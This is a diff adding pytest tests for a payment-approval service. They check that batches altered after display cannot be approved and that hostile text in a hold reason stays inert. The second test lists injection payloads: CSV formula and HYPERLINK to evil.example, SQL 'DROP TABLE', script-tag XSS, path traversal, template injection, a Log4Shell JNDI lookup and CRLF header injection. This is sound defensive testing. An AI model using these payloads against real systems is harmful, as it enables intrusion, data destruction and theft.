@@ -1,0 +1,95 @@
+"""What is paid is what was approved; and names and reasons stay text, whatever they want to be."""
+
+import csv
+import io
+from typing import Any
+from urllib.parse import unquote
+
+import pytest
+import sqlalchemy as sa
+
+from app.core.database import transaction
+from app.payments.models import PaymentFile
+from tests.support.house import House, document, lines
+
+_LINE = "UPDATE credit_transfer SET {} WHERE batch_id = :batch AND position = 2"
+_ACCOUNT = "UPDATE debtor_account SET {} WHERE id = (SELECT debtor_account_id FROM payment_batch WHERE id = :batch)"
+_BATCH = "UPDATE payment_batch SET {} WHERE id = :batch"
+_CHANGES = {
+    "a name": _LINE.format("creditor_name = 'Somebody Else'"),
+    "an account": _LINE.format("creditor_iban = 'NL39RABO0300065264'"),
+    "a BIC": _LINE.format("creditor_bic = 'RABONL2U'"),
+    "an amount by a cent": _LINE.format("amount_cents = amount_cents + 1"),
+    "an amount, the total kept": (
+        "UPDATE credit_transfer SET amount_cents = amount_cents + CASE position WHEN 1 THEN 1 ELSE -1 END "
+        "WHERE batch_id = :batch AND position IN (1, 2)"
+    ),
+    "a text": _LINE.format("remittance_text = 'Something else'"),
+    "no text": _LINE.format("remittance_kind = 'none', remittance_text = ''"),
+    "an end-to-end id": _LINE.format("end_to_end_id = 'X' || substr(end_to_end_id, 2)"),
+    "an attempt": _LINE.format("attempt = attempt + 1"),
+    "a kind": _LINE.format("kind = 'third_party'"),
+    "a line less": _LINE.format("status = 'excluded', decision = 'exclude'"),
+    "two lines in another order": (
+        "UPDATE credit_transfer SET position = position + 1000 WHERE batch_id = :batch AND position = 1"
+    ),
+    "the holder's name": _ACCOUNT.format("holder_name = 'Bakkerij Pietersen B.V.'"),
+    "the debtor's account": _ACCOUNT.format("iban = 'NL39RABO0300065264'"),
+    "the debtor's BIC": _ACCOUNT.format("bic = 'ABNANL2A'"),
+    "the schema": _ACCOUNT.format("file_schema = 'pain.001.001.03'"),
+    "the batch booking": _ACCOUNT.format("batch_booking = NOT batch_booking"),
+    "the execution date": _BATCH.format("requested_execution_date = requested_execution_date + 1"),
+}
+
+
+@pytest.mark.parametrize("change", _CHANGES.values(), ids=_CHANGES.keys())
+def test_what_was_altered_after_it_was_shown_is_not_approved(house: House, change: str) -> None:
+    """Each field of what will stand in the file, altered in the database: 412, no file, no approval that counts."""
+    batch = house.uploaded_batch(document(lines(3)))
+    with transaction(house.ctx.engine) as session:
+        altered = session.execute(sa.text(change), {"batch": batch["id"]})
+        assert altered.rowcount >= 1  # type: ignore[attr-defined]
+
+    answer = house.boss.approve(batch)
+
+    assert (answer.status_code, answer.json()["code"]) == (412, "batch_changed")
+    with transaction(house.ctx.engine) as session:
+        assert session.execute(sa.select(sa.func.count()).select_from(PaymentFile)).scalar_one() == 0
+    assert house.batch(batch["id"])["approvals"] == []
+
+
+_HOSTILE_TEXTS = (
+    '=HYPERLINK("https://evil.example";"klik")', "+31 6", "-1+1", "@SUM(A1)", "\t=1+1", " =1+1", "'=1+1",
+    '"; DROP TABLE claim; --', "</td><script>alert(1)</script>", "a;b;c", 'a"b', "../../etc/passwd", "{{7*7}}",
+    "${jndi:ldap://evil.example}", "%0d%0aSet-Cookie: a=b", "résumé", "王小明", "x" * 300,
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("text", _HOSTILE_TEXTS)
+def test_hostile_texts_stay_text_in_every_answer(house: House, text: str) -> None:
+    """A reason that wants to be a formula, markup or a path: text in JSON, no formula in CSV, and our own file name."""
+    batch = house.uploaded_batch(document(lines(2)))
+    line = house.transfers(batch["id"])[0]
+    path = f"/v1/payment-batches/{batch['id']}"
+    held = house.boss.call(
+        "PATCH",
+        f"{path}/transfers/{line['id']}",
+        json={"decision": "hold", "reason": text},
+        headers={"If-Match": '"r1"'},
+    )
+    assert held.status_code == 200, held.text
+    assert house.boss.approve(house.batch(batch["id"])).status_code == 201
+
+    shown = house.boss.get("/v1/history", headers={"Accept": "text/csv"})
+    file = house.boss.get(f"{path}/file")
+
+    assert house.transfers(batch["id"])[0]["decision_reason"] in (text, " ".join(text.split()))
+    cells = [cell for row in _rows(shown.text) for cell in row]
+    assert any(" ".join(text.split())[:20] in cell for cell in cells)
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    name = unquote(file.headers["content-disposition"]).partition("filename=")[2].strip('"')
+    assert name == f"{house.batch(batch['id'])['file']['message_id']}.xml"
+
+
+def _rows(text: str) -> list[list[Any]]:
+    return list(csv.reader(io.StringIO(text.removeprefix("﻿")), delimiter=";"))
